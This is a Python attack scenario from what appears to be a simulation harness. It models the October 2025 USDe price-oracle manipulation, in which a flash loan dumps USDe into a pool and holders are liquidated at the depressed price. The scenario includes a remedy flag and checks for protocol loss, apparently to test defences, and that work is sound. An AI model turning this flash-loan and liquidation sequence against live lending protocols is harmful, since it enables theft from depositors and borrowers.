"""USDe, 10-11 October 2025: collateral that can be redeemed for a dollar is marked at one venue.

It traded at $0.65 there and at about a dollar everywhere else. Here the venue is a pool; the sale
that moves its price is of borrowed USDe, which is bought back.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import MAX, flash_loan, liquidate, swap
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage


@dataclass(frozen=True)
class Mark(Parameters):
    """Whole tokens.

    usde: collateral of all accounts together, at debt_ratio of its worth in debt
    low_usd: where the venue is sold to
    pool_usde: its reserve
    """

    usde: float = 50_000_000.0
    debt_ratio: float = 0.8
    low_usd: float = 0.65
    pool_usde: float = 20_000_000.0
    accounts: int = 5
    bonus_bps: int = 500


def play(stage: Stage, p: Mark) -> Generator[int | None, None, None]:
    """Sells USDe on the venue, liquidates at its price, buys the USDe back there."""
    usde, usdc = stage.token("USDe", 1), stage.token("USDC", 1, decimals=6)
    dollar = stage.feed("USDC")
    redemption = stage.feed("USDe")
    pool = stage.pool("USDe", "USDC", p.pool_usde, fee_pips=100)
    venue = stage.deploy("PoolSpotFeed", pool, usde, dollar, 8, "USDe on one venue")
    market = stage.lending(
        "market",
        {
            "USDe": {
                "feed": redemption if p.remedied else venue,
                "ltv": 8_500,
                "threshold": 9_000,
                "bonus": p.bonus_bps,
            },
            "USDC": {},
        },
    )
    lender = stage.lending("lender", {"USDe": {}})
    debt = p.usde * p.debt_ratio
    stage.supplier("supplier", market, role="bystander", USDC=debt)
    stage.supplier("whale", lender, role="bystander", USDe=p.usde)
    holders = []
    for number in range(p.accounts):
        holder = stage.supplier(f"holder-{number + 1}", market, USDe=p.usde / p.accounts)
        stage.position(holder, market, borrowed={"USDC": debt / p.accounts})
        holders.append(holder)
    # x = x0 sqrt(p0 / p1)
    dumped = stage.units("USDe", round(p.pool_usde * (p.low_usd**-0.5 - 1), 6))
    attacker = stage.actor("attacker", USDC=p.usde * p.low_usd)
    router = stage.router
    stage.approve(attacker, ["USDe", "USDC"], market, router)
    yield None

    proceeds = stage.read(pool, "getAmountOut", usde, dumped)
    stage.send(
        "sell borrowed USDe on the venue, liquidate at its price, buy back",
        attacker,
        flash_loan(
            lender.market,
            attacker,
            usde,
            dumped,
            [
                swap(router, pool, usde, dumped, attacker),
                *(liquidate(market.market, who, usde, usdc, MAX, attacker) for who in holders),
                swap(router, pool, usdc, proceeds, attacker),
            ],
        ),
    )
    yield None


ATTACK = Attack(
    name="venue-mark",
    title="collateral redeemable at a dollar is marked where it trades at less",
    sources=("USDe on one exchange, 10-11 October 2025",),
    play=play,
    parameters=Mark(),
    remedy="collateral valued at what it redeems for",
    stopped_by="Healthy",
    protocol=(Check("profit", at_most=0), Check("loss", at_most=0), Check("insolvency", at_most=0)),
    goal=lambda _: Check("profit", at_least=1_000_000),
    reported="$0.65 on one venue, about $1 elsewhere",
)
